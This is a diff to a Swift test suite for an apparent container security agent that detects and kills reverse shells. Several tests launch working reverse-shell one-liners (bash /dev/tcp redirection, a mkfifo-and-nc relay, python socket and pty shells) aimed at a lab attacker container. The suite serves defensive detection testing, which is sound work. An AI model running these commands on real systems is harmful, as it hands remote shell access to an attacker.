@@ -48,11 +48,13 @@ struct ProcessDetectionTests {
     }
 
     @Test func aReverseShellIsKilledAtExecAndItsAlertNamesPodProcessAndAttacker() throws {
-        let scenario = try Scenario()
+        // python (not a shell here) hands the connection to the shell it execs.
+        let scenario = try Scenario(["--set", "processes.shells=[sh, bash]"])
         let marker = scenario.container.sharedDirectory + "/ran"
         try scenario.env.lab.exec(
             in: scenario.container,
-            ["bash", "-c", "bash -c 'touch /shared/ran' >& /dev/tcp/\(scenario.attacker.ipv4)/\(Self.port) 0>&1"], check: false)
+            ProcessMonitorTests.pythonExecs(["bash", "-c", "touch /shared/ran"], connectedTo: scenario.attacker.ipv4, port: Self.port),
+            check: false)
 
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
         #expect(!FileManager.default.fileExists(atPath: marker), "the shell ran its first command")
@@ -62,7 +64,7 @@ struct ProcessDetectionTests {
         let process = try #require(source["process"] as? [String: Any])
         #expect(process["comm"] as? String == "bash")
         #expect((process["exec_id"] as? String)?.contains(":") == true)
-        #expect((process["ancestors"] as? [String])?.first == "bash", "the outer bash that opened the socket: \(process)")
+        #expect((process["ancestors"] as? [String])?.first == "python3", "the program that opened the socket: \(process)")
         #expect((process["cgroup_path"] as? String)?.contains("cri-containerd-") == true, "\(process)")
         let evidence = try #require(alert["evidence"] as? [String: Any])
         #expect(evidence["technique"] as? String == "socket_on_stdio")
@@ -79,8 +81,8 @@ struct ProcessDetectionTests {
     @Test func withKillOffTheShellRunsAndIsStillReported() throws {
         let scenario = try Scenario(["--response", "reverse_shell=alert"])
         try scenario.env.lab.exec(
-            in: scenario.container,
-            ["bash", "-c", "bash -c 'touch /shared/ran' >& /dev/tcp/\(scenario.attacker.ipv4)/\(Self.port) 0>&1"], check: false)
+            in: scenario.container, ["bash", "-c", "bash -c 'touch /shared/ran' >& /dev/tcp/\(scenario.attacker.ipv4)/\(Self.port) 0>&1"],
+            check: false)
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
         #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"))
         #expect((alert["evidence"] as? [String: Any])?["killed_at_exec"] as? Bool == false)
@@ -97,6 +99,24 @@ struct ProcessDetectionTests {
         #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/health"))
     }
 
+    /// A running shell that makes its own stdio the connection (no exec):
+    /// killed as dup2 returns, before it reads a command.
+    @Test func aShellRedirectingItsOwnStdioToASocketIsKilledAtTheDup() throws {
+        let scenario = try Scenario()
+        try scenario.env.lab.exec(
+            in: scenario.container,
+            ["bash", "-c", "exec 5<>/dev/tcp/\(scenario.attacker.ipv4)/\(Self.port); exec 0<&5 1>&5 2>&5; touch /shared/ran"], check: false)
+        let alert = try scenario.waitForAlert(kind: "reverse_shell")
+        #expect(!FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"), "the shell ran a command")
+        let evidence = try #require(alert["evidence"] as? [String: Any])
+        #expect(evidence["technique"] as? String == "socket_duped_to_stdio", "\(evidence)")
+        #expect(evidence["killed_at_exec"] as? Bool == true)
+        #expect(evidence["remote"] as? String == scenario.attacker.ipv4)
+        let process = try #require((alert["source"] as? [String: Any])?["process"] as? [String: Any])
+        #expect(process["comm"] as? String == "bash")
+        #expect((process["arguments"] as? [String])?.first == "bash", "the program from the cache: \(process)")
+    }
+
     /// A shell whose stdio is pipes or a pty relayed by a connected process
     /// of the pod: found when the relay connects (mkfifo) or when the shell
     /// execs (pty.spawn), and the shell is killed by the agent.
@@ -107,9 +127,10 @@ struct ProcessDetectionTests {
         let command =
             technique == "mkfifo"
             ? ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc \(scenario.attacker.ipv4) \(Self.port) > /tmp/f"]
+            // python relays a pty to the connection itself, with no dup2 of the socket.
             : [
                 "python3", "-c",
-                "import socket,os,pty;s=socket.socket();s.connect((\"\(scenario.attacker.ipv4)\",\(Self.port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")"
+                "import socket,os,pty,time;s=socket.create_connection((\"\(scenario.attacker.ipv4)\",\(Self.port)));pid,fd=pty.fork()\nif pid==0: os.execv(\"/bin/bash\",[\"bash\"])\ntime.sleep(10)"
             ]
         try scenario.env.lab.spawn(in: scenario.container, command)
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
